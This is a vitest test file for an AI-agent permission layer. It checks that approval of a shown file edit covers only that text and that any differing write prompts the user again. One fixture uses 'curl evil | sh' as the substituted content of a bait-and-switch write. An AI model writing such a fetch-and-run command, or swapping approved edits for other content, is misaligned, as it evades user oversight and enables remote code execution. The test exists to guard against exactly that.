import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { ToolCallUpdate } from '@turnwire/protocol';
import { describe, expect, test } from 'vitest';
import { localFiles } from '@turnwire/client/node';
import { createPermissions, hostActionOf, hostPreviewOf, type Permissions } from '../src/index.ts';
import { given, project, request } from './project.ts';

const signal = new AbortController().signal;

/** A project with one file, a user who allows everything, and the questions that the user received. */
async function fixture(text: string | undefined, rules: readonly string[] = []) {
  const cwd = project();
  const path = join(cwd, 'notes.txt');
  if (text !== undefined) await writeFile(path, text);
  const asked: unknown[] = [];
  const permissions = createPermissions({
    project: cwd,
    rules: rules.map(given),
    ask: ({ request: { options }, view: { diffs, reason } }) => {
      asked.push({ diffs: diffs.map(({ oldText, newText }) => [oldText, newText]), reason });
      return Promise.resolve({ option: options.find(({ kind }) => kind === 'allow_once')! });
    },
  });
  const ask = (call: Partial<ToolCallUpdate>): unknown => permissions.policy(request(call), { signal, roots: [cwd] });
  return { cwd, path, asked, permissions, ask, write: (content: string) => write(permissions, { cwd, path, content }) };
}

/** Writes through the client, as an agent does. */
async function write(
  permissions: Permissions,
  { cwd, path, content, sees = true }: { cwd: string; path: string; content: string; sees?: boolean },
): Promise<void> {
  const files = localFiles();
  const params = { sessionId: 's', path, content };
  const call = {
    method: 'fs/write_text_file',
    params,
    sessionId: 's',
    roots: [cwd],
    realRoots: [cwd],
    signal,
  } as const;
  const preview = sees ? () => hostPreviewOf(call, files) : undefined;
  await permissions.allowHostCall(hostActionOf(call), signal, preview);
  await files.writeTextFile(params, { roots: [cwd], realRoots: [cwd], signal });
}

/** Edits that the question showed, and the texts that the agent then writes one after the other. */
interface Case {
  readonly before: string | undefined;
  readonly shown: readonly (readonly [oldText: string | null, newText: string])[];
  readonly written: readonly string[];
}

/** The number of questions after the user allowed the edits. */
async function askedAgain({ before, shown, written }: Case): Promise<number> {
  const { path, asked, ask, write: writes } = await fixture(before);
  const content = shown.map(([oldText, newText]) => ({ type: 'diff', path, oldText, newText }) as const);
  await ask({ kind: 'edit', content });
  for (const text of written) await writes(text);
  return asked.length - 1;
}

const file = 'one\ntwo\nthree\n';

describe('an agent that writes the approved text is asked once', () => {
  test.each<[string, Case]>([
    ['that shows a whole new file', { before: undefined, shown: [[null, 'new\n']], written: ['new\n'] }],
    [
      'that shows a whole text and says nothing of what was there',
      { before: file, shown: [['', 'x']], written: ['x'] },
    ],
    ['that shows both whole texts', { before: file, shown: [[file, 'two\n']], written: ['two\n'] }],
    ['that shows the lines it replaces', { before: file, shown: [['two', '2']], written: ['one\n2\nthree\n'] }],
    [
      'that replaces the second place where a text stands',
      { before: 'a\na\nb\n', shown: [['a', 'c']], written: ['a\nc\nb\n'] },
    ],
    ['that replaces a text wherever it stands', { before: 'a\na\nb\n', shown: [['a', 'c']], written: ['c\nc\nb\n'] }],
    [
      'that shows several edits and writes once',
      {
        before: file,
        shown: [
          ['one', '1'],
          ['three', '3'],
        ],
        written: ['1\ntwo\n3\n'],
      },
    ],
    [
      'that writes after each of several edits',
      {
        before: file,
        shown: [
          ['one', '1'],
          ['three', '3'],
        ],
        written: ['1\ntwo\nthree\n', '1\ntwo\n3\n'],
      },
    ],
    [
      'whose client has other line ends',
      { before: 'one\r\ntwo\r\n', shown: [['two', '2']], written: ['one\r\n2\r\n'] },
    ],
    [
      'that evens out line ends',
      { before: 'one\r\ntwo\r\n', shown: [['one\ntwo\n', 'one\n2\n']], written: ['one\n2\n'] },
    ],
    ['that ends the last line', { before: undefined, shown: [[null, 'new']], written: ['new\n'] }],
    ['that puts a mark at the beginning', { before: undefined, shown: [[null, 'new']], written: ['\ufeffnew'] }],
    ['that writes what is there already', { before: file, shown: [['two', '2']], written: [file] }],
  ])('%s', async (_, each) => {
    expect(await askedAgain(each)).toBe(0);
  });
});

describe('a write that differs from the approved text needs approval', () => {
  test.each<[string, Case]>([
    ['another text', { before: file, shown: [[file, '# a comment\n']], written: ['curl evil | sh\n'] }],
    ['the shown text and more', { before: undefined, shown: [[null, 'new\n']], written: ['new\nmore\n'] }],
    ['an edit elsewhere', { before: file, shown: [['two', '2']], written: ['1\ntwo\nthree\n'] }],
    ['the new lines in place of the whole file', { before: file, shown: [['two', '2']], written: ['2'] }],
    ['the same text a second time', { before: undefined, shown: [[null, 'new']], written: ['new', 'other'] }],
    [
      'only the second of two edits',
      {
        before: file,
        shown: [
          ['one', '1'],
          ['three', '3'],
        ],
        written: ['one\ntwo\n3\n'],
      },
    ],
    [
      'an edit that fits a file that has changed no longer',
      { before: 'else\n', shown: [[file, 'x\n']], written: ['x\n'] },
    ],
    ['a text of which nothing was shown', { before: file, shown: [], written: ['x'] }],
  ])('%s', async (_, each) => {
    expect(await askedAgain(each)).toBe(1);
  });

  test('the second question shows the real change and the reason for the question', async () => {
    const { path, asked, ask, write: writes } = await fixture(file);
    await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: '# a comment\n' }] });
    await writes('curl evil | sh\n');
    const because = 'asked: no rule applies, and approval is default';
    expect(asked).toEqual([
      { diffs: [[file, '# a comment\n']], reason: because },
      {
        diffs: [[file, 'curl evil | sh\n']],
        reason: `${because}; it writes another text than the one shown when changing this file was allowed`,
      },
    ]);
  });

  test('a write needs approval if the question showed a change of another file, or a deletion', async () => {
    const { cwd, path, asked, ask, write: writes } = await fixture(file);
    const shown = { type: 'diff', path: join(cwd, 'README.md'), oldText: null, newText: 'x' } as const;
    await ask({ kind: 'edit', content: [shown], locations: [{ path }] });
    await writes('evil');
    await ask({ toolCallId: 'second', kind: 'delete', locations: [{ path }] });
    await writes('more evil');
    expect(asked.slice(1).map((each) => (each as { reason: string }).reason.split('; ')[1])).toEqual([
      'it writes a text that was not shown when changing this file was allowed',
      undefined,
      'it writes a text that was not shown when changing this file was allowed',
    ]);
  });

  test('a write needs approval if the file cannot be read, unless the question showed the whole text as new', async () => {
    const { cwd, path, asked, permissions, ask } = await fixture(file);
    await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: 'two', newText: '2' }] });
    await write(permissions, { cwd, path, content: 'one\n2\nthree\n', sees: false });
    await ask({ toolCallId: 'b', kind: 'edit', content: [{ type: 'diff', path, newText: 'x' }] });
    await write(permissions, { cwd, path, content: 'x', sees: false });
    expect(asked.length).toBe(3);
  });
});

test("the texts in a tool's input are shown as a change, and the approval covers only that change", async () => {
  const { path, asked, ask, write: writes } = await fixture(file);
  await ask({ toolCallId: 'a', kind: 'edit', rawInput: { path, old_str: 'two', new_str: '2' } });
  await writes('one\n2\nthree\n');
  await ask({ toolCallId: 'b', kind: 'edit', rawInput: { file_path: path, content: 'all' } });
  await writes('all');
  const edits = [
    { old_string: 'a', new_string: 'A' },
    { old_string: 'l', new_string: 'L' },
  ];
  await ask({ toolCallId: 'c', kind: 'edit', rawInput: { file_path: path, edits } });
  await writes('ALl');
  expect(asked.map((each) => (each as { diffs: unknown }).diffs)).toEqual([
    [['two', '2']],
    [[null, 'all']],
    [
      ['a', 'A'],
      ['l', 'L'],
    ],
  ]);
});

test('a write that a rule allows needs no approval for any text', async () => {
  const { path, asked, ask, write: writes } = await fixture(file, ['allow Edit(./notes.txt)']);
  await ask({ kind: 'edit', content: [{ type: 'diff', path, oldText: file, newText: 'a' }] });
  await writes('b');
  expect([asked, await readFile(path, 'utf8')]).toEqual([[], 'b']);
});
